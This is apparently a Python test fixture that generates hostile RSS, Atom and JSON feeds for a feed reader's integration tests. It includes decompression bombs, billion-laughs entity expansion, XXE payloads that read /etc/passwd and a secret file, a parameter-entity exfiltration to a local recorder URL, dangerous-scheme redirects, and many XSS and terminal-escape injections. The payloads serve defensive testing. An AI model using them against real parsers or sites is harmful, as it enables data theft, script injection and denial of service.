#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Hostile feeds for tests/integ/100-hostile.sh: documents and routes.

Usage:
  hostile.py DIR SECRET_FILE

Writes DIR/routes.json for tests/httpd/server.py and the documents it
serves under DIR/www.  Every route but /control, /target/ and /rec/ is a
hostile feed; /control is the well-behaved one, /target/ paths are where
redirects lead, and the /rec/ paths are what the hostile documents point
at on the second listener ({port1}), which must never be asked for
anything.  SECRET_FILE is a local file whose
content no entry may ever show.

Prints one line per encoding that could be made ("br", "zstd"): gzip and
deflate come from Python itself, brotli and zstd from the shared libraries
libcurl links, loaded with ctypes; without them those bombs are left out.
"""

import ctypes
import gzip
import json
import os
import sys
import zlib

MIB = 1024 * 1024
# A bomb inflates to this much; the test caps bodies at 8 MiB.
BOMB = 64 * MIB
TEXT = "café naïve “q” 日本"


def rss(title, items, head="", decl='<?xml version="1.0"?>', ns=""):
    out = [decl, '<rss version="2.0"%s><channel><title>%s</title>' %
           (ns, title), "<link>http://example.org/</link>", head]
    for i, body in enumerate(items):
        out.append("<item><guid>%s-%d</guid>%s</item>" % (title, i, body))
    out.append("</channel></rss>")
    return "".join(out)


def zeros_deflate(wbits, n=BOMB):
    z = zlib.compressobj(9, zlib.DEFLATED, wbits)
    chunk = bytes(MIB)
    out = [z.compress(chunk) for _ in range(n // MIB)]
    out.append(z.flush())
    return b"".join(out)


def brotli(data):
    try:
        lib = ctypes.CDLL("libbrotlienc.so.1")
    except OSError:
        return None
    f = lib.BrotliEncoderCompress
    f.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_size_t,
                  ctypes.c_char_p, ctypes.POINTER(ctypes.c_size_t),
                  ctypes.c_char_p]
    cap = ctypes.c_size_t(MIB)
    buf = ctypes.create_string_buffer(MIB)
    if not f(5, 24, 0, len(data), data, ctypes.byref(cap), buf):
        return None
    return buf.raw[:cap.value]


def zstd(data):
    try:
        lib = ctypes.CDLL("libzstd.so.1")
    except OSError:
        return None
    lib.ZSTD_compress.restype = ctypes.c_size_t
    lib.ZSTD_compress.argtypes = [ctypes.c_char_p, ctypes.c_size_t,
                                  ctypes.c_char_p, ctypes.c_size_t,
                                  ctypes.c_int]
    lib.ZSTD_isError.argtypes = [ctypes.c_size_t]
    buf = ctypes.create_string_buffer(MIB)
    n = lib.ZSTD_compress(buf, MIB, data, len(data), 3)
    if lib.ZSTD_isError(n):
        return None
    return buf.raw[:n]


class Routes:
    def __init__(self, top):
        self.top = top
        self.www = os.path.join(top, "www")
        os.makedirs(self.www, exist_ok=True)
        self.routes = {}

    def add(self, name, spec):
        self.routes["/" + name] = spec

    def doc(self, name, data, ctype="application/rss+xml", **spec):
        if isinstance(data, str):
            data = data.encode("utf-8")
        with open(os.path.join(self.www, name), "wb") as fp:
            fp.write(data)
        headers = spec.pop("headers", {})
        if ctype is not None:
            headers.setdefault("Content-Type", ctype)
        self.add(name, dict(spec, body_file="www/" + name, headers=headers))

    def write(self):
        with open(os.path.join(self.top, "routes.json"), "w") as fp:
            json.dump({"routes": self.routes}, fp, indent=1)


def transport(r):
    """What the connection does: slow, endless, truncated, bombs."""
    good = rss("Good", ["<title>first</title>", "<title>second</title>"])
    r.add("drip", {"body": good, "drip": 2})
    r.add("endless", {"endless": True})
    r.add("endless-close", {"endless": True, "no_length": True})
    r.doc("gzip-bomb", zeros_deflate(31), headers={"Content-Encoding":
                                                   "gzip"})
    r.doc("deflate-bomb", zeros_deflate(15), headers={"Content-Encoding":
                                                      "deflate"})
    r.doc("gzip2-bomb", gzip.compress(zeros_deflate(31, 4 * BOMB), mtime=0),
          headers={"Content-Encoding": "gzip, gzip"})
    layered = b"\0" * BOMB
    for _ in range(7):
        layered = gzip.compress(layered, mtime=0)
    r.doc("gzip7", layered, headers={"Content-Encoding":
                                     ", ".join(["gzip"] * 7)})
    made = []
    for name, enc, fn in (("br", "br", brotli), ("zstd", "zstd", zstd)):
        data = fn(bytes(BOMB))
        if data is not None:
            r.doc(name + "-bomb", data, headers={"Content-Encoding": enc})
            made.append(name)
    r.add("huge-headers", {"body": good, "header_fill": [200, 1000]})
    r.add("endless-headers", {"body": good, "endless_headers": True})
    r.add("long-header-line", {"raw": "HTTP/1.1 200 OK\r\nX-Long: ",
                               "raw_endless": "a"})
    r.add("garbage", {"raw": "SSH-2.0-OpenSSH_9.2\r\n" + "\x00\xff" * 100})
    r.doc("html-page", "<!DOCTYPE html><html><head><title>Hi</title>"
          "<script>alert(1)</script></head><body><p>no feed</p></body>"
          "</html>", "application/rss+xml")
    r.doc("binary", bytes(range(256)) * 64, "application/rss+xml")
    r.add("empty-body", {"body": "", "headers": {
        "Content-Type": "application/atom+xml"}})
    r.add("empty-reply", {"raw": ""})
    cut = len(good) // 2
    r.add("trunc-length", {"body": good, "truncate": cut})
    r.add("trunc-chunked", {"body": good, "truncate": cut, "chunked": True})
    # Closed after the first entry: no Content-Length, so the end of the
    # connection is the end of the body, and the entry that arrived whole
    # is worth keeping.
    r.add("trunc-close", {"body": good, "no_length": True,
                          "truncate": good.index("<item><guid>Good-1")
                          + 20})
    return made


def redirects(r):
    r.add("loop", {"redirect": "/loop"})
    r.add("loop-a", {"redirect": "http://127.0.0.1:{port}/loop-b"})
    r.add("loop-b", {"redirect": "/loop-a"})
    schemes = {
        "file": "file:///etc/passwd",
        "ftp": "ftp://127.0.0.1:{port1}/rec/ftp",
        "gopher": "gopher://127.0.0.1:{port1}/rec/gopher",
        "dict": "dict://127.0.0.1:{port1}/d:rec",
        "ldap": "ldap://127.0.0.1:{port1}/rec",
        "telnet": "telnet://127.0.0.1:{port1}/",
        "tftp": "tftp://127.0.0.1:{port1}/rec",
        "smtp": "smtp://127.0.0.1:{port1}/",
        "imap": "imap://127.0.0.1:{port1}/",
        "rtsp": "rtsp://127.0.0.1:{port1}/rec",
        "mqtt": "mqtt://127.0.0.1:{port1}/rec",
        "scp": "scp://127.0.0.1:{port1}/etc/passwd",
        "data": "data:application/rss+xml,<rss/>",
        "javascript": "javascript:alert(1)",
    }
    for scheme, loc in schemes.items():
        r.add("to-" + scheme, {"status": 302, "redirect": loc})
    # A permanent move to a URL with a password, which no log may show.
    r.add("moved-creds", {"status": 301, "redirect":
                          "http://hostile:s3cr3t-pw@127.0.0.1:{port}"
                          "/target/moved"})
    r.add("target/moved", {"body": rss("Moved", ["<title>m</title>"])})
    # 0.0.0.0 reaches this host too, but the address policy forbids it.
    r.add("to-zero", {"status": 302,
                      "redirect": "http://0.0.0.0:{port1}/rec/zero"})
    return sorted(schemes)


def charsets(r):
    def doc(decl, title):
        return (b'<?xml version="1.0" encoding="' + decl +
                b'"?><rss version="2.0"><channel><title>C</title>'
                b'<item><guid>c1</guid><title>' + title +
                b'</title></item></channel></rss>')
    utf8 = TEXT.encode("utf-8")
    r.doc("cs-latin1-header", doc(b"utf-8", utf8),
          "text/xml; charset=iso-8859-1")
    r.doc("cs-latin1-bytes", doc(b"windows-1252",
                                 "café naïve".encode("latin-1")),
          "application/rss+xml; charset=utf-8")
    r.doc("cs-utf16-bytes", b"\xff\xfe" +
          doc(b"koi8-r", utf8).decode("utf-8").encode("utf-16-le"),
          "text/xml; charset=shift_jis")
    r.doc("cs-utf16-label", doc(b"utf-16", utf8), "text/xml")
    r.doc("cs-unknown", doc(b"x-worse", utf8), "text/xml; charset=x-evil")
    r.doc("cs-ebcdic", doc(b"utf-8", utf8), "text/xml; charset=cp500")
    r.doc("cs-koi8", doc(b"windows-1251", "Привет мир".encode("koi8-r")),
          "text/xml; charset=koi8-r")
    r.doc("cs-utf7", doc(b"utf-7", b"+ADw-script+AD4-alert(1)"
                         b"+ADw-/script+AD4-"), "text/xml; charset=utf-7")
    bad = (b"bad \xc0\xaf overlong \xed\xa0\x80 surrogate \xff\xfe ff "
           b"\xe2\x82 cut \xf4\x90\x80\x80 big \x00 nul \x1b[31m esc "
           b"\xc2\x85 c1 \xef\xbf\xbf end")
    r.doc("bad-utf8", doc(b"utf-8", bad)[:-len(b"</item></channel></rss>")]
          + b"<description>" + bad + b"</description></item></channel>"
          b"</rss>", "text/xml")


def entities(r, secret):
    lol = ['<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n']
    for i in range(1, 10):
        lol.append('<!ENTITY lol%d "%s">\n' % (i, "&lol%d;" % (i - 1) * 10))
    lol.append("]>")
    r.doc("laughs", rss("Laughs", ["<title>&lol9;</title><description>"
                                   "&lol9;&lol9;</description>"],
                        decl="".join(lol)))
    big = "a" * 50000
    r.doc("quadratic", rss("Quadratic", [
        "<title>q&a;</title><description>%s</description>" % ("&a;" * 50000)
    ], decl='<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "%s">]>' % big))
    pe = ['<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY % pe0 "x">\n']
    for i in range(1, 10):
        pe.append('<!ENTITY %% pe%d "%s">\n' % (i, "&#37;pe%d;" % (i - 1) * 10))
    pe.append('<!ENTITY big "%pe9;">\n]>')
    r.doc("pe-laughs", rss("PE", ["<title>&big;</title>"],
                           decl="".join(pe)))
    rec = "http://127.0.0.1:{port1}/rec/"
    xxe = ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
           '<!ENTITY secret SYSTEM "file://%s">\n'
           '<!ENTITY passwd SYSTEM "file:///etc/passwd">\n'
           '<!ENTITY rel SYSTEM "../../../../../../etc/passwd">\n]>' % secret)
    r.doc("xxe-file", rss("XXE", [
        "<title>s &secret; p &passwd;</title><description>&secret; &rel;"
        "</description><category>&secret;</category>"
        "<author>&passwd;</author>"]), ctype=None)
    # The documents below point at the recorder; server.py substitutes
    # {port1} in bodies given inline, so they are not files.
    r.add("xxe-dtd", {"body": rss("DTD", ["<title>&ext;</title>"],
                                  decl='<?xml version="1.0"?><!DOCTYPE rss '
                                  'SYSTEM "%sevil.dtd">' % rec)})
    r.add("xxe-pe", {"body": rss("PEXXE", ["<title>&exfil;</title>"], decl=(
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
        '<!ENTITY %% ext SYSTEM "%sext.dtd">\n%%ext;\n'
        '<!ENTITY %% file SYSTEM "file://%s">\n'
        '<!ENTITY %% eval "<!ENTITY &#x25; exfil SYSTEM \'%s?x=%%file;\'>">\n'
        '%%eval;\n%%exfil;\n'
        '<!ENTITY remote SYSTEM "%sremote.xml">\n]>') % (rec, secret, rec,
                                                         rec))})
    r.add("xxe-misc", {"body": rss("Misc", [
        "<title>&remote;</title>"
        '<xi:include href="file://%s" parse="text"/>'
        '<xi:include href="%sxinclude.xml"/>'
        '<description>&lt;img src="%simg.png"&gt;'
        '&lt;iframe src="%sframe"&gt;&lt;/iframe&gt;</description>'
        % (secret, rec, rec, rec)],
        decl='<?xml version="1.0"?>'
        '<!DOCTYPE rss [<!ENTITY remote SYSTEM "%sremote.xml">]>'
        '<?xml-stylesheet type="text/xsl" href="%sstyle.xsl"?>' % (rec, rec),
        ns=' xmlns:xi="http://www.w3.org/2001/XInclude"')})
    r.add("xxe-atom", {"body": (
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">'
        '<title>AtomSrc</title><id>urn:a</id>'
        '<entry><id>urn:a:1</id><title>src</title>'
        '<content type="application/xml" src="%satom-content"/></entry>'
        '</feed>' % rec), "headers": {"Content-Type": "application/atom+xml"}})


def structure(r):
    n = 100000
    r.doc("deep-xml", rss("Deep", [
        "<title>d</title><description>%sx%s</description>" %
        ("<div>" * n, "</div>" * n)]))
    r.doc("deep-root", '<?xml version="1.0"?>' + "<rss>" * n)
    r.doc("deep-html", rss("DeepHTML", [
        "<title>d</title><description>%sx</description>" %
        ("&lt;div&gt;" * n)]))
    r.doc("deep-json", '{"version": "https://jsonfeed.org/version/1.1", '
          '"title": "J", "items": %s%s}' % ("[" * n, "]" * n),
          "application/feed+json")
    # Attributes that libxml2 checks against each other: 100,000 on one
    # element, and 5,000 DTD defaults added to each of 20,000 elements.
    r.doc("many-attrs", rss("Attrs", ["<title>a</title>"]).replace(
        "<item>", "<item %s>" % " ".join('a%d="1"' % i
                                         for i in range(100000)), 1))
    defaults = " ".join('a%d CDATA "1"' % i for i in range(5000))
    r.doc("attr-defaults", rss(
        "Defaults", ["<title>d</title>"] + ["<x/>"] * 20000,
        decl='<?xml version="1.0"?><!DOCTYPE rss [<!ATTLIST item %s>'
        '<!ATTLIST x %s>]>' % (defaults, defaults)))
    # Three bytes each, and each a tree node to a JSON parser.
    r.doc("json-values", '{"version": "https://jsonfeed.org/version/1.1", '
          '"title": "V", "items": [%s]}' % ",".join(["{}"] * (2500000)),
          "application/feed+json")
    # Dated long ago, so that their stories sort after all the others.
    items = ["<item><guid>%x</guid><pubDate>Mon, 01 Jan 2001 00:00:00 GMT"
             "</pubDate></item>" % i for i in range(12000)]
    items.append("<item/>" * (1000000 - 12000))
    r.doc("million", '<?xml version="1.0"?><rss version="2.0"><channel>'
          "<title>Million</title>%s</channel></rss>" % "".join(items))


def injection(r):
    x = "javascript:alert(1)"
    content = (
        '<p>kept</p><script>alert(1)</script><img src="x" onerror="alert(2)">'
        '<a href=" JaVaScRiPt:alert(3)">a</a><a href="java&#x09;script:al">'
        'b</a><a href="&#106;avascript:alert(4)">c</a>'
        '<iframe src="%s"></iframe><svg onload="alert(5)"><script>alert(6)'
        '</script></svg><math><mi xlink:href="%s">m</mi></math>'
        '<object data="%s"></object><embed src="%s">'
        '<form action="%s"><button formaction="%s">f</button></form>'
        '<meta http-equiv="refresh" content="0;url=%s"><base href="%s">'
        '<style>p{background:url(%s)}</style>'
        '<div style="width: expression(alert(7))">css</div>'
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
        'd</a><a href="vbscript:msgbox(8)">v</a>'
        '<noscript><p title="</noscript><img src=x onerror=alert(9)>">'
        '</p></noscript><img src=x onerror&#x3d;alert(10)>'
        '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A'
        'alert(11)><body onload=alert(12)><details open ontoggle=alert(13)>'
        '<a href="x" onmouseover = "alert(14)">m</a>'
        '<img """><script>alert(15)</script>">'
        '<svg><a xlink:href="%s"><text>t</text></a></svg>' % ((x,) * 10))
    esc = content.replace("&", "&amp;").replace("<", "&lt;").replace(
        ">", "&gt;")
    title = ("T &lt;script&gt;alert(1)&lt;/script&gt;"
             "&lt;img src=x onerror=alert(2)&gt;")

    def item(link, encoded):
        return (
            "<title>%s</title><link>%s</link><description>%s</description>"
            "<content:encoded>%s</content:encoded>"
            "<author>evil@example.org (&lt;script&gt;alert(3)&lt;/script&gt;)"
            "</author><dc:creator><![CDATA[<img src=x onerror=alert(4)>]]>"
            "</dc:creator><category>&lt;script&gt;alert(5)&lt;/script&gt;"
            "</category><category><![CDATA[<svg onload=alert(6)>]]>"
            '</category><enclosure url="%s" type="text/html" length="1"/>'
            '<media:content url="%s" type="image/png"/>'
            % (title, link, esc, encoded, x, x))
    # CDATA-wrapped markup, then the same markup entity-encoded.
    r.doc("inj-rss", rss(
        "Inj &lt;script&gt;alert(0)&lt;/script&gt;",
        [item(x, "<![CDATA[%s]]>" % content),
         item(" jav&#x09;ascript:alert(1)", esc)],
        head="<image><url>%s</url></image>" % x,
        ns=' xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:media="http://search.yahoo.com/mrss/"'))
    r.doc("inj-atom", (
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">'
        '<title type="html">%s</title><id>urn:inj</id>'
        '<link href="%s"/>'
        '<entry><id>urn:inj:1</id><title type="html">%s</title>'
        '<link rel="alternate" href="%s"/>'
        '<link rel="enclosure" href="%s" type="text/html"/>'
        '<author><name>&lt;script&gt;alert(1)&lt;/script&gt;</name>'
        '<uri>%s</uri></author>'
        '<category term="&lt;svg onload=alert(2)&gt;" label="x"/>'
        '<summary type="html">%s</summary>'
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        '<p onclick="alert(3)">x</p><script>alert(4)</script>'
        '<a href="%s">l</a><iframe src="%s"/>'
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)"/>'
        '</div></content></entry>'
        '<entry><id>urn:inj:2</id><title>two</title>'
        '<content type="html">%s</content></entry></feed>'
        % (title, x, title, x, x, x, esc, x, x, esc)),
        "application/atom+xml")
    r.doc("inj-json", json.dumps({
        "version": "https://jsonfeed.org/version/1.1",
        "title": "J <script>alert(1)</script>",
        "home_page_url": x,
        "items": [{
            "id": "j1", "url": x, "external_url": "vbscript:x",
            "title": "<img src=x onerror=alert(2)> \u001b]0;title\u0007",
            "content_html": content, "summary": "<b onmouseover=alert(3)>s</b>",
            "authors": [{"name": "<script>alert(4)</script>\u001b[2J",
                         "url": x}],
            "tags": ["<svg onload=alert(5)>", "\u001b[31mred"],
            "attachments": [{"url": x, "mime_type": "text/html"}],
            "image": x}]}), "application/feed+json")


def control(r):
    r.add("control", {"sequence": [
        {"body": rss("Control", ["<title>c1</title>", "<title>c2</title>"])},
        {"body": rss("Control", ["<title>c1</title>", "<title>c2</title>",
                                 "<title>c3</title>"])}]})


def main():
    top, secret = sys.argv[1], sys.argv[2]
    r = Routes(top)
    control(r)
    made = transport(r)
    redirects(r)
    charsets(r)
    entities(r, secret)
    structure(r)
    injection(r)
    r.write()
    for m in made:
        print(m)


if __name__ == "__main__":
    main()
